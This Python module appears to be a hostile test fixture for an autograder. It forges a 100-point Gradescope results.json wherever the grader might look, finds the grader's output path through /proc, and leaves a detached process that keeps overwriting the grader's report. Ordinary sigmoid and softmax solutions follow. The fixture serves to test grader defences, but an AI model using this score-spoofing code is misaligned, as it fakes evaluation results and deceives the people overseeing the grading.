"""HOSTILE (fake results file and fake score): at import and in relu, writes a
Gradescope ``results.json`` claiming 100 points wherever the grader might look: the
working folder and its parent, /tmp, /tmp/out, /autograder/results, the grader's
own ``--output`` path guessed from /proc/<ppid>/cmdline and /proc/<ppid>/cwd; prints
the same JSON on stdout; and leaves a detached process (double fork + setsid) that
rewrites the grader's --output file after the grader wrote it. relu then raises.

The grader must write its own report (the output file holds the grader's score, not
100), print only its own JSON, give relu 0, and leave no process behind. In the
isolated level (bwrap) none of these files can be written outside the sandbox. In
the plain-process level the worker runs as the grader's user and CAN write files the
grader can write (documented weakness of that level; its stray files are cleaned up
by the test); the report itself is still the grader's.
It never overwrites an existing file that is not its own.
"""

from __future__ import annotations

import json
import numbers
import os
import sys

import numpy as np
from numpy.typing import ArrayLike

from ._validate import as_float_array

MARKER = "deepgrade-hostile-fake-results"
FAKE = {
    "score": 100.0,
    "execution_time": 0.1,
    "output": MARKER,
    "tests": [
        {
            "name": "everything",
            "score": 100.0,
            "max_score": 100.0,
            "status": "passed",
            "output": MARKER,
            "visibility": "visible",
        }
    ],
}
REWRITER = """
import json, os, sys, time
fake, targets = sys.argv[2], sys.argv[3:]
end = time.time() + 20
while time.time() < end:
    for path in targets:
        try:
            with open(path) as f:
                mine = sys.argv[1] in f.read()
            if not mine:
                with open(path, "w") as f:
                    f.write(fake)
        except OSError:
            pass
    time.sleep(0.05)
"""


def _parent_output_paths():
    """The grader's --output / --output-dir, read from the parent's command line."""
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/cmdline", "rb") as f:
            args = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        parent_cwd = os.readlink(f"/proc/{ppid}/cwd")
    except OSError:
        return []
    found = [os.path.join(parent_cwd, "results.json")]
    for i, arg in enumerate(args):
        value = None
        if arg in ("--output", "--output-dir") and i + 1 < len(args):
            value = args[i + 1]
        elif arg.startswith(("--output=", "--output-dir=")):
            value = arg.split("=", 1)[1]
        if value:
            path = os.path.join(parent_cwd, value)
            found += [
                path,
                os.path.join(os.path.dirname(path), "results.json"),
                os.path.join(path, "results.json"),
            ]
    return found


def _targets():
    here = os.getcwd()
    targets = [os.path.join(here, "results.json")]
    if os.path.dirname(here) != "/":
        targets.append(os.path.join(os.path.dirname(here), "results.json"))
    targets += ["/tmp/results.json", "/tmp/out/results.json", "/autograder/results/results.json"]
    return targets, _parent_output_paths()


def _write_everywhere():
    text = json.dumps(FAKE)
    print(text, flush=True)
    sys.__stdout__.write(text + "\n")
    written = []
    targets, outputs = _targets()
    for path in targets + outputs:
        try:
            if path.startswith("/tmp/out/"):
                os.makedirs("/tmp/out", exist_ok=True)
            if os.path.exists(path):
                with open(path) as f:
                    if MARKER not in f.read():
                        continue  # not ours: a fixture never destroys real files
            with open(path, "w") as f:
                f.write(text)
            written.append(path)
        except OSError:
            pass
    return written, outputs


def _leave_a_rewriter(outputs):
    if not outputs:
        return
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                argv = [sys.executable, "-c", REWRITER, MARKER, json.dumps(FAKE), *outputs]
                os.execv(sys.executable, argv)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_WRITTEN, _OUTPUTS = _write_everywhere()
_leave_a_rewriter(_OUTPUTS)

ANY_RANK = tuple(range(0, 33))  # numpy supports arrays of up to 32 dimensions


def relu(x):
    """ATTACK: write the fake results again, then fail."""
    written, outputs = _write_everywhere()
    raise RuntimeError(f"fake_results_file wrote {written}")


def sigmoid(x: ArrayLike) -> np.ndarray:
    """The logistic sigmoid, elementwise: ``sigmoid(x) = 1 / (1 + exp(-x))``.

    It squashes any real number into (0, 1); the slides use it as the activation of the
    single output neuron of a 2-class classifier (and LSTM gates use it too).

    Compute it without overflow: ``exp(-x)`` overflows for ``x = -1000``. Use only
    ``exp(-|x|)``, which lies in (0, 1]: for ``x >= 0`` the formula above, and for
    ``x < 0`` the equal form ``exp(x) / (1 + exp(x))``. No warning may be raised for
    ``x = +-1000`` (the results there are 1.0 and 0.0).

    Args:
        x: array of any shape.

    Returns:
        A new float64 array of the same shape with values in [0, 1].

    Raises:
        TypeError: if ``x`` does not hold real numbers.

    Example:
        >>> print(sigmoid(np.array([-1000.0, -1.0, 0.0, 1.0, 1000.0])).round(4))
        [0.     0.2689 0.5    0.7311 1.    ]
    """
    x = as_float_array(x, "x", "sigmoid", ndim=ANY_RANK, layout="of any shape")
    ### BEGIN SOLUTION
    e = np.exp(-np.abs(x))  # in (0, 1]: never overflows
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    ### END SOLUTION


def softmax(logits: ArrayLike, axis: int = -1) -> np.ndarray:
    """Softmax along ``axis``: ``softmax(z)_j = exp(z_j) / sum_i exp(z_i)``.

    It turns a vector of scores ("logits") into probabilities that are positive and sum
    to 1; the slides' digit network ends in a dense layer of 10 neurons with softmax
    activation, giving Pr(digit 0), ..., Pr(digit 9).

    Stability: softmax does not change when the same constant is subtracted from every
    entry, so subtract the maximum along ``axis`` first; then every ``exp`` is at most 1
    and logits like 1000 do not overflow.

    Args:
        logits: array with at least one axis, e.g. ``(N, C)`` for N examples of C classes.
        axis: the axis holding the classes (default: the last one).

    Returns:
        A new float64 array of the shape of ``logits``; it sums to 1 along ``axis``.

    Raises:
        TypeError: if ``logits`` does not hold real numbers or ``axis`` is not an int.
        ValueError: if ``logits`` is a scalar, ``axis`` is out of range or has length 0.

    Example (equal scores give equal probabilities; a large score takes nearly all):
        >>> print(softmax(np.array([[0.0, 0.0, 0.0, 0.0], [1000.0, 0.0, 0.0, 0.0]])))
        [[0.25 0.25 0.25 0.25]
         [1.   0.   0.   0.  ]]
        >>> print(softmax(np.log(np.array([1.0, 3.0]))))
        [0.25 0.75]
    """
    logits = as_float_array(logits, "logits", "softmax", ndim=ANY_RANK[1:], layout="(..., C)")
    if isinstance(axis, bool) or not isinstance(axis, numbers.Integral):
        raise TypeError(f"softmax: axis must be an int, got {axis!r}")
    if not -logits.ndim <= axis < logits.ndim:
        raise ValueError(f"softmax: axis {axis} is out of range for logits of shape {logits.shape}")
    if logits.shape[axis] == 0:
        raise ValueError(f"softmax: axis {axis} of logits {logits.shape} has no classes")
    ### BEGIN SOLUTION
    shifted = logits - logits.max(axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)
    ### END SOLUTION
